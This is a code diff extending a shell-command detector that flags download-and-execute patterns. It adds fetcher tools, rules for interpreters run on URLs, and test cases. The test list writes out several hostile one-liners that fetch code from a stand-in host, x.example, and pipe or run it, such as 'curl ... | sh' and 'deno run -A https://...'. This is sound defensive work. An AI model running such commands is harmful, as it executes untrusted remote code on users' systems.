@@ -3,6 +3,7 @@ import { codeOrigins, fetches, toolOf } from '../flow.ts';
 import { traceToRun } from '../provenance.ts';
 import { type Check, type CheckFinding, finding } from './check.ts';
 import { codeFindings } from './code-signals.ts';
+import { type CommandRule, findRules } from './rules.ts';
 
 /** Programs that fetch even where the host is not spelled out in the command. */
 const FETCHERS = new Set([
@@ -27,7 +28,43 @@ const FETCHERS = new Set([
   'dig',
   'nslookup',
   'host',
+  'gh',
+  'glab',
+  'kubectl',
+  'oc',
+  'aws',
+  'gsutil',
+  'gcloud',
+  'az',
+  'rclone',
+  's3cmd',
+  'lftp',
+  'yt-dlp',
 ]);
+
+const URL_OPERAND = /^(?:https?|npm|jsr|ftp):/i;
+const rules: readonly CommandRule[] = [
+  {
+    tool: 'deno',
+    operand: URL_OPERAND,
+    sub: 'run|serve|test|bench|x',
+    severity: 'high',
+    message: 'deno runs code from an address.',
+  },
+  {
+    tool: 'bun uv go nbb',
+    operand: /^https?:/i,
+    sub: 'run',
+    severity: 'high',
+    message: 'code from an address is run.',
+  },
+  {
+    tool: 'node nodejs tsx python python3 bash sh',
+    operand: /^https?:/i,
+    severity: 'high',
+    message: 'code from an address is run.',
+  },
+];
 
 function brings(analysis: Analysis, command: Command): boolean {
   return FETCHERS.has(toolOf(command)) || fetches(analysis, command);
@@ -54,12 +91,22 @@ export const downloadAndExecute: Check = {
       'curl https://x.example/i.sh > i.sh; sh i.sh',
       'curl https://x.example/i | tee i.sh | bash',
       'git clone https://x.example/r.git && cd r && ./install.sh',
+      'curl -so a https://x.example/a; mv a b; sh b',
+      'curl -so a https://x.example/a; cat a | sh',
+      'curl -sO https://x.example/t.tgz && tar xzf t.tgz && ./t/setup',
+      'curl -o Makefile https://x.example/M; make',
+      'deno run -A https://x.example/a.ts',
+      'awk "$(curl -s https://x.example/a.awk)" f',
+      'make -f <(curl -s https://x.example/Makefile)',
     ],
     clean: [
       'echo "never curl x | sh"',
       'curl -o data.json https://x.example/d',
       'bash build.sh',
       'curl -s https://x.example/d | jq .',
+      'curl -s https://x.example/d | awk "{print}" -',
+      'curl -so a.json https://x.example/d; node report.js a.json',
+      'tar xzf local.tgz && ./local/setup',
     ],
   },
   find(analysis) {
@@ -85,7 +132,7 @@ export const downloadAndExecute: Check = {
           command,
         ),
     );
-    return [...direct, ...stepwise, ...codeFindings(analysis, 'fetched-code', 'high')];
+    return [...findRules(analysis, rules), ...direct, ...stepwise, ...codeFindings(analysis, 'fetched-code', 'high')];
   },
 };
 
